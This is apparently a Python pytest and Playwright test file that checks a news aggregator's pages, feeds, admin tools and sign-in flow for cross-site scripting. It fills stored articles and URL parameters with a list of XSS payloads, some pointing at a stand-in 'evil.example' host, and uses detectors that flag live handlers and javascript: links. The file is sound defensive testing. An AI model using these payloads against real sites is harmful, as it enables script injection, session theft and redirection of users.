"""What hostile feeds say, stored as it came and shown on every page and in every feed: nothing of it runs.

The payloads are those of a corpus where one is at hand, and always some of our own. Text stands in the store as the
feed gave it; markup as the cleaning room leaves it, each payload cleaned by itself.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import UTC, datetime
from itertools import cycle, islice
from pathlib import Path
from types import ModuleType
from typing import Any

import pytest
from playwright.sync_api import Browser, Error, Page, expect

from aggregator.clean.markup import safe_html
from aggregator.schema import (
    Category,
    Corrected,
    Correction,
    Enclosure,
    Evidence,
    Mention,
    Moved,
    Offer,
    OidcSettings,
    Place,
    Planned,
    Preview,
    Removal,
    Secret,
    ServiceSettings,
    View,
    replace,
)
from aggregator.store import Store

CORPUS = Path(__file__).parents[2].parent / "shared" / "eval" / "xss"
OWN = (
    "<script>window.ran = 1</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='alert(1)' autofocus onfocus='alert(1)' x='",
    "</title><script>alert(1)</script>",
    "</textarea></style></noscript><svg onload=alert(1)>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "javascript:alert(1)//%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "{{constructor.constructor('alert(1)')()}}{% raw %}${alert(1)}",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,x'></object><embed src=x><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<link rel=stylesheet href=https://evil.example/x.css><style>@import 'https://evil.example/y.css'</style>",
    "<form action=https://evil.example/><input name=csrf></form><button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "]]><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script><![CDATA[",
    "--><script>alert(1)</script><!--",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e\u2066<img src=x onerror=alert(1)>",
    '=HYPERLINK("https://evil.example/","x")',
    "<video poster=javascript:alert(1)><source onerror=alert(1)></video>",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
)
NOON = datetime(2026, 1, 15, 12, tzinfo=UTC)
AT_ONCE = 50
"""Payloads in the body of one article."""
WATCH = """() => {
  addEventListener("securitypolicyviolation",
    event => console.error(`CSP ${event.violatedDirective} ${event.blockedURI}`));
  for (const name of ["alert", "confirm", "prompt", "print", "open"]) {
    window[name] = () => console.error(`ran ${name}`);
  }
}"""
ALIVE = """() => {
  const address = /^(href|src|action|formaction|xlink:href|poster|data)$/i, usual = /^(|https?:|mailto:)$/;
  const leads = value => URL.parse(value, document.baseURI)?.protocol ?? "";
  const wrong = ({ name, value }) => /^(on|srcdoc$)/i.test(name) || (address.test(name) && !usual.test(leads(value)));
  const never = "script:not([src]), base, iframe, object, embed, meta[http-equiv]";
  return [
    ...[...document.querySelectorAll("*")].flatMap(part => [...part.attributes].filter(wrong)
      .map(({ name, value }) => `${part.localName} ${name}=${value}`)),
    ...[...document.querySelectorAll(never)].map(part => part.outerHTML),
    ...(window.ran ? ["window.ran"] : []),
  ];
}"""
"""What in a page of ours could run, or leads elsewhere than to the web."""
HARMLESS = re.compile("net::ERR_FAILED|Service Worker registration blocked|status of 40[04]")
"""A picture that is refused, and a page that says why it is none."""


def payloads() -> list[str]:
    lines = {
        line.replace("\0", "").strip(): None
        for path in sorted(CORPUS.glob("*/*.txt"))
        for line in path.read_text(encoding="utf-8", errors="replace").splitlines()
    }
    return [*OWN, *(line for line in lines if line)]


def stories(said: list[str]) -> Iterator[dict[str, Any]]:
    """Articles that bear the payloads in every field, fifty in each body."""
    every = cycle(said)
    for n, first in enumerate(range(0, len(said), AT_ONCE)):
        some = said[first : first + AT_ONCE]
        evidence = tuple(Evidence(kind="title", text=text) for text in islice(every, 3))
        categories = tuple(
            Category(id=f"h{n}-{i}", name=name, score=0.9, evidence=evidence)
            for i, name in enumerate(islice(every, 5))
        )
        place = Place(name=next(every), kind="city", country="MA", lat=31.0, lon=-6.0 - n / 100)
        files = tuple(Enclosure(url=url, type=next(every), length=1) for url in islice(every, 3))
        given = {
            "url": some[0] if n % 2 else f"https://hostile.example/{n}?{some[0]}",
            "title": some[0],
            "authors": tuple(islice(every, 3)),
            "summary": " ".join(some),
            "html": "".join(f"<div>{safe_html(text, 'https://hostile.example/')}</div>" for text in some),
            "text": " ".join(some),
            "image": some[-1],
            "categories": categories,
            "mentions": (Mention(place=place, role="title", text=next(every), score=0.9, evidence=evidence),),
            "removed": (Removal(rule="read-more", text=next(every)),),
            "enclosures": files,
        }
        yield {"source": "atlas-wire", "minutes": n, "title": f"hostile {n}", "given": given}


def settings(newsroom: ModuleType, directory: Path) -> Any:
    """The newsroom with titles that are no better than its articles."""
    usual, every = newsroom.settings(directory, page_size=10), cycle(OWN)
    sources = tuple(replace(source, title=next(every)) for source in usual.sources)
    views = tuple(View(id=view.id, title=next(every), filter=view.filter) for view in usual.views)
    return replace(usual, service=ServiceSettings(title=OWN[0]), sources=sources, views=views)


def advice(newsroom: ModuleType, store: Store) -> dict[str, Any]:
    """Tools that say what hostile feeds and files would have them say; and a view of the owner's with such a name."""
    owner, every = store.owner(NOON), cycle(OWN)
    store.save_view(owner.n, "home", title=OWN[2], filter="country:MA", now=NOON)
    article = store.article(1)
    assert article is not None
    offers = tuple(Offer(url=url, title=next(every), kind=next(every)) for url in OWN)
    found = Preview(asked="", url=OWN[7], title=OWN[0], entries=9, articles=(article,), offers=offers, notes=OWN,
                    table="\n".join(OWN))  # fmt: skip
    moved = tuple(Moved(id=1, title=said, before=next(every), after=next(every)) for said in OWN)
    edits = tuple(Correction(why=said, where=next(every), old=next(every), new=next(every), looked=9, changed=9,
                             samples=moved) for said in OWN)  # fmt: skip
    planned = Planned(changes=OWN)
    return {"tools": newsroom.Bench(found=found, planned=planned, edits=Corrected(edits=edits))}


OTHERS = (
    *(
        "/browse",
        "/map",
        "/sources",
        "/status",
        "/view/maghreb",
        "/source/atlas-wire",
        "/place/MA",
        "/category/h0-1",
    ),
    *(
        "/save",
        "/look",
        "/preferences",
        "/me",
        "/about",
        "/offline",
        "/admin/figures",
        "/admin/source/atlas-wire",
    ),
    *("/article/1.json", "/suggest?q=a", "/map/clusters?zoom=2&within=-85,-180,85,180", "/arrivals/0/"),
    *("/view/~home", "/view/~home/save", "/view/~home/browse", "/view/~home/map", "/feeds/~home.atom"),
    *("/admin/try", "/admin/plan", "/article/1/correct"),
)


@pytest.fixture(scope="module")
def hostile(
    serving: Callable[..., Any], tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[str, int]]:
    """Where a desk full of payloads is served, and how many articles it has."""
    told = list(stories(payloads()))
    directory = tmp_path_factory.mktemp("hostile")
    with serving(directory, stories=told, settings=settings, given=advice) as (where, _):
        yield where, len(told)


@contextmanager
def watching(browser: Browser, where: str) -> Iterator[tuple[Page, list[str]]]:
    """A page for the desk that is served there, and all that happens on it that must not."""
    seen: list[str] = []
    context = browser.new_context(service_workers="block")
    context.add_init_script(f"({WATCH})()")

    def abroad(route: Any) -> None:
        # A picture of an article is the one thing that may be asked of others.
        if route.request.resource_type not in ("image", "media"):
            seen.append(f"asked {route.request.resource_type} {route.request.url}")
        route.abort()

    context.route(lambda url: not url.startswith(f"{where}/"), abroad)
    page = context.new_page()
    page.on("dialog", lambda dialog: (seen.append(f"dialog {dialog.message}"), dialog.dismiss()))
    page.on("pageerror", lambda error: seen.append(f"error {error}"))
    page.on(
        "console", lambda message: seen.append(message.text) if not HARMLESS.search(message.text) else None
    )
    page.on(
        "framenavigated", lambda frame: frame.url.startswith(where) or seen.append(f"went to {frame.url}")
    )
    yield page, seen
    context.close()


@pytest.fixture
def watched(browser: Browser, hostile: tuple[str, int]) -> Iterator[tuple[Page, list[str]]]:
    with watching(browser, hostile[0]) as page_and_seen:
        yield page_and_seen


def visit(page: Page, seen: list[str], url: str, *, status: int = 200) -> None:
    with page.expect_response(lambda answer: answer.request.is_navigation_request()) as came:
        try:
            page.goto(url, wait_until="load")
        except Error as error:  # what the browser saves instead of showing it
            if "Download is starting" not in str(error) and "ERR_ABORTED" not in str(error):
                raise
    assert (url, came.value.status) == (url, status)
    if "attachment" not in came.value.headers.get("content-disposition", ""):
        look_at(page, seen)


def look_at(page: Page, seen: list[str]) -> None:
    if "html" in page.evaluate("document.contentType"):
        page.evaluate("document.querySelectorAll('details').forEach(part => { part.open = true; })")
        seen += page.evaluate(ALIVE)


def test_what_runs_would_be_seen(watched: tuple[Page, list[str]], hostile: tuple[str, int]) -> None:
    (page, seen), (where, _) = watched, hostile
    visit(page, seen, f"{where}/about")
    assert seen == []
    page.evaluate("said => { document.querySelector('main').innerHTML = said; }", OWN[1])
    assert page.evaluate(ALIVE) == ["img onerror=alert(1)"]
    page.evaluate("alert(1)")
    page.evaluate("fetch('https://evil.example/').catch(() => {})")
    assert {"CSP", "ran"} <= {word.split()[0] for word in seen}


def test_no_payload_runs_on_any_list(watched: tuple[Page, list[str]], hostile: tuple[str, int]) -> None:
    (page, seen), (where, count) = watched, hostile
    visit(page, seen, f"{where}/")
    pages = 1
    while page.locator("a[rel=next]").count():
        visit(page, seen, str(page.locator("a[rel=next]").first.evaluate("link => link.href")))
        pages += 1
    assert pages >= count // 10
    assert seen == []


def test_no_payload_runs_on_any_article(watched: tuple[Page, list[str]], hostile: tuple[str, int]) -> None:
    (page, seen), (where, count) = watched, hostile
    for number in range(1, count + 1):
        visit(page, seen, f"{where}/article/{number}")
        assert page.locator("article").count() > 0
    assert seen == []


def test_no_payload_runs_on_any_other_page(watched: tuple[Page, list[str]], hostile: tuple[str, int]) -> None:
    (page, seen), (where, _) = watched, hostile
    for path in OTHERS:
        visit(page, seen, f"{where}{path}")
    assert seen == []


def test_no_payload_in_an_address_runs(watched: tuple[Page, list[str]], hostile: tuple[str, int]) -> None:
    (page, seen), (where, _) = watched, hostile
    for said in OWN:
        for path in ("/", "/sources"):
            page.goto(
                f"{where}{path}?{page.evaluate('said => new URLSearchParams({ q: said }).toString()', said)}"
            )
            seen += page.evaluate(ALIVE)
    assert seen == []


def test_no_payload_runs_in_what_an_admin_asked_for(
    watched: tuple[Page, list[str]], hostile: tuple[str, int]
) -> None:
    (page, seen), (where, _) = watched, hostile
    visit(page, seen, f"{where}/admin/try")
    page.get_by_label("Address").fill(OWN[2])
    page.get_by_role("button", name="Try", exact=True).click()
    expect(page.locator("pre")).to_contain_text(OWN[0])
    look_at(page, seen)
    visit(page, seen, f"{where}/admin/plan")
    page.locator("textarea").fill(OWN[5])
    page.get_by_role("button", name="Plan").click()
    expect(page.locator("textarea")).to_have_value(OWN[5])
    look_at(page, seen)
    visit(page, seen, f"{where}/article/1/correct")
    page.locator("form").filter(has=page.locator("[name=fault]")).first.get_by_role("button").click()
    expect(page.locator(".diff")).to_have_count(len(OWN))
    look_at(page, seen)
    assert seen == []


def test_no_payload_runs_where_readers_sign_in(
    browser: Browser, serving: Callable[..., Any], tmp_path: Path
) -> None:
    oidc = OidcSettings(issuer="https://id.example", client_id="x", client_secret=Secret("x"), title=OWN[2])
    given = {"provider": object()}
    with (
        serving(tmp_path, given=lambda *_: given, access="readers", oidc=oidc) as (here, _),
        watching(browser, here) as (page, seen),
    ):
        visit(page, seen, f"{here}/sign-in")
        for said in OWN:
            asked = page.evaluate("said => new URLSearchParams({ next: said, error: said }).toString()", said)
            visit(page, seen, f"{here}/sign-in?{asked}")
            visit(page, seen, f"{here}/sign-in/oidc/back?{asked}", status=400)
    assert seen == []


@pytest.mark.parametrize("form", ["rss", "atom", "json", "geojson", "csv", "opml"])
def test_no_payload_runs_in_a_feed(
    watched: tuple[Page, list[str]], hostile: tuple[str, int], form: str
) -> None:
    (page, seen), (where, _) = watched, hostile
    for name in ("latest", "maghreb", "needs"):
        missing = name == "needs" and form not in ("rss", "atom", "json")
        visit(page, seen, f"{where}/feeds/{name}.{form}", status=404 if missing else 200)
    assert seen == []
